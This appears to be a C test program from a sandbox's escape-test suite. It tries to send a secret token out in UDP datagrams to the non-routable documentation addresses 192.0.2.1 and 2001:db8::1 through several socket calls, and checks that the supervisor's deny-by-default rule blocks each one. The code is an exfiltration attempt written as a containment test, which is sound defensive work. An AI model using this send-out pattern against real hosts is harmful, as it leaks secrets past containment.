/* esc_udp_doc — send UDP datagrams out of the host: to 192.0.2.1:9 (a
 * documentation address, TEST-NET-1, that no router forwards) by sendto,
 * by connect + send, by sendmsg, and to [2001:db8::1]:9 (IPv6's).
 *
 * Attacks the network stub's deny by default for addressed sends (docs/network.md
 * "The network stub"; rule 1: a sockaddr in memory is decided by the
 * supervisor, never by CONTINUE).  A datagram needs no answer to leave:
 * telemetry, beacons and exfiltration work this way.  Natively the first
 * send succeeds wherever the host has a route (ESCAPED: the datagram left
 * the sandbox's socket); with no route at all the host cannot show it
 * (UNSUPPORTED).  Under moat each is refused ENETUNREACH, recorded as
 * net.deny-by-default with the destination.
 *
 * usage: ESC_TOKEN=... esc_udp_doc [--native]   (--native: no route is UNSUPPORTED)
 */
#include "esc.h"
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>

static int sent, noroute;

static void verdict(const char *how, ssize_t r)
{
	if (r >= 0) {
		esc_won("%s: the datagram was sent", how);
		sent++;
	} else {
		if (errno == ENETUNREACH)
			noroute++;
		esc_held("%s: %s", how, esc_errname(errno));
	}
}

int main(int argc, char **argv)
{
	const char *tok = esc_token();
	struct sockaddr_in a4 = {.sin_family = AF_INET, .sin_port = htons(9)};
	inet_pton(AF_INET, "192.0.2.1", &a4.sin_addr);
	int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (s < 0) {
		esc_held("socket(AF_INET, SOCK_DGRAM): %s", esc_errname(errno));
		return esc_finish();
	}
	verdict("sendto 192.0.2.1:9", sendto(s, tok, strlen(tok), 0, (struct sockaddr *)&a4, sizeof a4));
	struct iovec iov = {(void *)tok, strlen(tok)};
	struct msghdr m = {.msg_name = &a4, .msg_namelen = sizeof a4, .msg_iov = &iov, .msg_iovlen = 1};
	verdict("sendmsg 192.0.2.1:9", sendmsg(s, &m, 0));
	int c = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (connect(c, (struct sockaddr *)&a4, sizeof a4) == 0)
		verdict("connect+send 192.0.2.1:9", send(c, tok, strlen(tok), 0));
	else
		verdict("connect 192.0.2.1:9", -1);
	int s6 = socket(AF_INET6, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	struct sockaddr_in6 a6 = {.sin6_family = AF_INET6, .sin6_port = htons(9)};
	inet_pton(AF_INET6, "2001:db8::1", &a6.sin6_addr);
	if (s6 >= 0)
		verdict("sendto [2001:db8::1]:9", sendto(s6, tok, strlen(tok), 0, (struct sockaddr *)&a6, sizeof a6));
	if (!sent && noroute == 4 && argc > 1 && strcmp(argv[1], "--native") == 0)
		esc_unsupported("this host has no route to 192.0.2.1 or 2001:db8::1");
	return esc_finish();
}
